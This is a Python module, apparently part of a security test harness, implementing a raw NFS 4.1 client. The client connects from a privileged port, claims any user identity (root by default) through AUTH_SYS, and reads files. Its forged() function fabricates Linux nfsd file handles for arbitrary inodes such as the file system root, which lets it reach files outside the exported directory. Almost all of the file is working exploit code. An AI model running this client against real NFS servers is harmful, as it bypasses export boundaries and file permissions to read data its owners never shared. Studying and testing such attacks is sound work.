# ruff: noqa: F821 (attempts.py and nfs4.py come before it)
# A client of NFS 4.1 that asks for what it likes: file handles of its own making, in anybody's name. As much of the
# protocol (RFC 8881, XDR of RFC 5662) as reading one file takes.
import itertools
import os
import socket
import struct
import time

NFS, COMPOUND = 100003, 1
AUTH_NONE, AUTH_SYS = 0, 1
GETFH, LOOKUP, PUTFH, PUTROOTFH, READ = 10, 15, 22, 24, 25
EXCHANGE_ID, CREATE_SESSION, SEQUENCE, RECLAIM_COMPLETE = 42, 43, 53, 58
# Names of the errors that servers give here (RFC 8881, section 15.1).
ERRORS = {1: "PERM", 2: "NOENT", 13: "ACCESS", 70: "STALE", 10001: "BADHANDLE", 10013: "GRACE", 10016: "WRONGSEC"}
GRACE = 10013
ANONYMOUS = struct.pack(">I12x", 0)  # a state id without an open
# include/linux/exportfs.h and fs/nfsd/nfsfh.h: version, authentication, kind of file system id, kind of file id.
INODE_AND_GENERATION = 1
ROOT_INODE = 2  # of ext4


class NfsError(OSError):
    """An operation that the server refused."""

    def __init__(self, operation, status):
        super().__init__(f"NFS4ERR_{ERRORS.get(status, status)} from operation {operation}")
        self.status = status


def word(*numbers):
    return struct.pack(f">{len(numbers)}I", *numbers)


def opaque(data):
    return word(len(data)) + data + bytes(-len(data) % 4)


class Answer:
    """Reads what the server sent."""

    def __init__(self, data):
        self.data = data

    def take(self, size):
        taken, self.data = self.data[:size], self.data[size:]
        if len(taken) < size:
            raise OSError("a short answer")
        return taken

    def word(self):
        return struct.unpack(">I", self.take(4))[0]

    def long(self):
        return struct.unpack(">Q", self.take(8))[0]

    def opaque(self):
        size = self.word()
        data = self.take(size)
        self.take(-size % 4)
        return data


def low_port(address):
    """A connection from a port that only root gets, which servers ask for."""
    for port in range(1023, 600, -1):
        try:
            return socket.create_connection((address, 2049), timeout=30, source_address=("", port))
        except OSError as error:
            if "in use" not in str(error):
                raise
    raise OSError("no low port is free")


class Client:
    """One session, in the name of `uid` and `gid`."""

    def __init__(self, address, uid=0, gid=0):
        self.line = low_port(address)
        self.uid, self.gid = uid, gid
        self.numbers = itertools.count(1)
        self.session, self.slot = None, itertools.count(1)
        owner = struct.pack(">Q", 1) + opaque(os.urandom(16))
        answer = self.compound((EXCHANGE_ID, owner + word(0, 0, 0)), in_session=False)
        client, sequence = answer.long(), answer.word()
        channel = word(0, 65536, 65536, 4096, 16, 4, 0)
        made = struct.pack(">QII", client, sequence, 0) + channel + channel + word(0x40000000, 1, AUTH_NONE)
        self.session = self.compound((CREATE_SESSION, made), in_session=False).take(16)
        self.compound((RECLAIM_COMPLETE, word(0)))

    def close(self):
        self.line.close()

    def call(self, arguments):
        me = word(0) + opaque(b"rehearsal") + word(self.uid, self.gid, 0)
        head = word(next(self.numbers), 0, 2, NFS, 4, COMPOUND, AUTH_SYS) + opaque(me) + word(AUTH_NONE, 0)
        message = head + arguments
        self.line.sendall(word(0x80000000 | len(message)) + message)
        body, last = b"", False
        while not last:
            mark = struct.unpack(">I", self.received(4))[0]
            body, last = body + self.received(mark & 0x7FFFFFFF), bool(mark >> 31)
        answer = Answer(body)
        answer.take(8)
        if answer.word() != 0:
            raise OSError("the server denied the call")
        answer.word()
        answer.opaque()
        if status := answer.word():
            raise OSError(f"the server did not accept the call: {status}")
        return answer

    def received(self, size):
        data = b""
        while len(data) < size:
            more = self.line.recv(size - len(data))
            if not more:
                raise OSError("the server closed the connection")
            data += more
        return data

    def compound(self, *operations, in_session=True):
        """The answer at the last operation's result."""
        before = []
        if in_session:
            before = [(SEQUENCE, self.session + word(next(self.slot), 0, 0, 0))]
        listed = [*before, *operations]
        body = opaque(b"") + word(1, len(listed)) + b"".join(word(number) + data for number, data in listed)
        answer = self.call(body)
        answer.word()
        answer.opaque()
        for _ in range(answer.word()):
            operation, status = answer.word(), answer.word()
            if status:
                raise NfsError(operation, status)
            if operation == SEQUENCE:
                answer.take(36)
            elif operation == GETFH:
                self.handle = answer.opaque()
        return answer

    def walk(self, path):
        return [(LOOKUP, opaque(name.encode())) for name in path.strip("/").split("/") if name]

    def handle_of(self, path):
        """The file handle of an exported path."""
        self.compound((PUTROOTFH, b""), *self.walk(path), (GETFH, b""))
        return self.handle

    def read(self, handle, path):
        """The first bytes of the file at `path` below `handle`. A server that has just started lets clients wait."""
        deadline = time.monotonic() + 150
        where = [(PUTFH, opaque(handle)), *self.walk(path)]
        while True:
            try:
                answer = self.compound(*where, (READ, word(0) + bytes(12) + struct.pack(">QI", 0, 200)))
                answer.word()
                return answer.opaque()
            except NfsError as error:
                if error.status != GRACE or time.monotonic() > deadline:
                    raise
            time.sleep(2)


def forged(handle, inode):
    """A handle of the same file system, for another inode, of any generation."""
    sizes = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}
    version, authentication, kind = handle[:3]
    head = bytes([version, authentication, kind, INODE_AND_GENERATION])
    return head + handle[4 : 4 + sizes[kind]] + struct.pack("<II", inode, 0)
